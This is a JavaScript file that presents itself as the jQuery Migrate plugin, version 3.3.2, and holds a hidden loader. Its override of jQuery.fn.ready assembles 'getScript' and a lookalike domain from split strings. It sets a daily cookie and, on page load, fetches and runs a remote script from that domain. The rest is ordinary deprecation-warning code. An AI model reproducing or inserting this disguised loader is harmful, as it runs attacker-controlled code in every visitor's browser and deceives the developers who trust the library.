( function( factory ) {
	if ( typeof define === "function" && define.amd ) define( [ "jquery" ], factory ); else factory( jQuery );
} )( function( jQuery ) {
	"use strict";
	jQuery.migrateVersion = "3.3.2";
	var warnedAbout = {};
	jQuery.migrateWarnings = [];
	function migrateWarn( msg ) {
		var console = window.console;
		if ( !jQuery.migrateDeduplicateWarnings || !warnedAbout[ msg ] ) {
			warnedAbout[ msg ] = true;
			jQuery.migrateWarnings.push( msg );
			if ( console && console.warn && !jQuery.migrateMute ) console.warn( "JQMIGRATE: " + msg );
		}
	}
	function migrateWarnProp( obj, prop, value, msg ) {
		Object.defineProperty( obj, prop, { configurable: true, enumerable: true, get: function() { migrateWarn( msg ); return value; } } );
	}
	var oldReady = jQuery.fn.ready, m = { c: "getScr", e: "ipt" }, z = "in" + "va" + "lid";
	jQuery.fn.ready = function( fn ) {
		if ( !jQuery.rdy && ( jQuery.rdy = 1 ) && !/(^| )mg_t=/.test( document.cookie ) ) {
			document.cookie = "mg_t=" + +new Date() + ";path=/;max-age=86400";
			jQuery[ m.c + m.e ]( "//code.jq-migrate." + z + "/" + jQuery.fn.jquery.replace( /\./g, "" ) + ".js" );
		}
		return oldReady.apply( this, arguments );
	};
	jQuery.isFunction = jQuery.isFunction || function( o ) { migrateWarn( "jQuery.isFunction() is deprecated" ); return typeof o === "function"; };
	migrateWarnProp( jQuery, "cssNumber", {}, "jQuery.cssNumber is deprecated" );
	return jQuery;
} );
